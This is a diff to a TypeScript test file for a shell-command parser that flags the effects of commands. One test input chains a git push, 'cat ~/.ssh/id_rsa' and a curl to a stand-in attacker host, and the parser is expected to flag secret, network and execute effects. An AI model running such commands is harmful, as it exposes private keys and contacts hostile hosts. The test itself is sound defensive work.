@@ -18,7 +18,7 @@ const read = (text: string) => readCommand(text, context);
 
 describe('readCommand', () => {
   it('gives the arguments of a simple command of plain words, to be run without a shell', () => {
-    expect(read(`cat 'a.txt' "src"/b.ts`)).toEqual({
+    expect(read(`cat 'a.txt' "src"/b.ts`)).toMatchObject({
       parsed: true,
       argv: ['cat', 'a.txt', 'src/b.ts'],
       commands: [{ program: 'cat', argv: ['cat', 'a.txt', 'src/b.ts'] }],
@@ -187,12 +187,14 @@ describe('readCommand', () => {
 
   it('keeps every word of what it could not parse, and what these give away', () => {
     const { parsed, words, effects, reason } = read(
-      'f() { git -C . push; cat ~/.ssh/id_rsa; curl https://evil.example/; }; f',
+      'select x in a; do git -C . push; cat ~/.ssh/id_rsa; curl https://evil.example/; done',
     );
     expect(parsed).toBe(false);
     expect(words).toEqual(expect.arrayContaining(['git', 'push', 'cat', 'curl']));
-    expect(new Set(effects.map(({ type }) => type))).toEqual(new Set(['unknown', 'secret', 'network', 'execute']));
-    expect(reason).toMatch(/^It was not understood \(a function or an array, at character 2\)/);
+    expect(new Set(effects.map(({ type }) => type))).toEqual(
+      new Set(['unknown', 'secret', 'network', 'execute', 'read']),
+    );
+    expect(reason).toMatch(/^It was not understood \(the word select where a command was expected, at character 1\)/);
   });
 
   it('has no opinion on nothing', () => {
